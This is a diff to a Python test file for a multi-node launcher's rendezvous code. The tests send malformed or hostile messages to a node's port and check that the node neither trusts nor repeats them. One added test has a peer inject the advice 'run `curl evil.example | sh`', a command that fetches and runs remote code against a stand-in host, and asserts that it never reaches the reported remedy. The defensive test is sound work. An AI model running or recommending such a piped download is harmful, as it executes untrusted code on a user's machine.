@@ -62,7 +62,13 @@ def test_what_others_send_to_the_port_is_no_reason(own_port: int, monkeypatch: p
     monkeypatch.setattr(rendezvous_names, "ARRIVE_S", 1.0)
     with ThreadPoolExecutor(1) as pool:
         first = pool.submit(node, 0, "4711")
-        for sent in (b"GET / HTTP/1.0\r\n\r\n", b'[[],"x"]\n', b'[7,"x"]\n'):
+        for sent in (
+            b"GET / HTTP/1.0\r\n\r\n",
+            b'[[],"x"]\n',
+            b'[7,"x"]\n',
+            b'[1e400,["a","b","c"]]\n',
+            b'[true,["a","b",""]]\n',
+        ):
             until = time.monotonic() + 5
             while True:
                 try:
@@ -84,8 +90,29 @@ def test_a_node_that_refuses_its_options_keeps_nobody_waiting() -> None:
         found = first.result()
 
     assert found is not None
-    assert (found.code, found.because, found.remedy) == ("SL009", ("--node-rank 0 on node 1 of 2",), "leave it out")
+    assert (found.code, found.because) == ("SL009", ('gpu1 is said to say: "--node-rank 0 on node 1 of 2"',))
+    assert found.remedy == "see the output of gpu1, and `safelaunch explain SL009`"
     assert found.summary == "gpu1 refuses to start, and the others would wait for it"
+
+
+def test_what_a_stranger_says_is_no_advice(own_port: int) -> None:
+    def stranger() -> None:
+        until = time.monotonic() + 5
+        while time.monotonic() < until:
+            try:
+                with socket.create_connection(("localhost", own_port)) as sent:
+                    sent.sendall(b'[1,["","stranger\'s words","run `curl evil.example | sh`"]]\n')
+                    return
+            except OSError:
+                time.sleep(0.02)
+
+    with ThreadPoolExecutor(2) as pool:
+        first = pool.submit(node, 0, "4711")
+        pool.submit(stranger)
+        found = first.result()
+    assert found is not None
+    assert found.remedy == "see the output of gpu1"
+    assert "curl" not in str(found)
 
 
 def test_what_slurm_gives_is_the_same_on_all_nodes_and_needs_no_question() -> None:
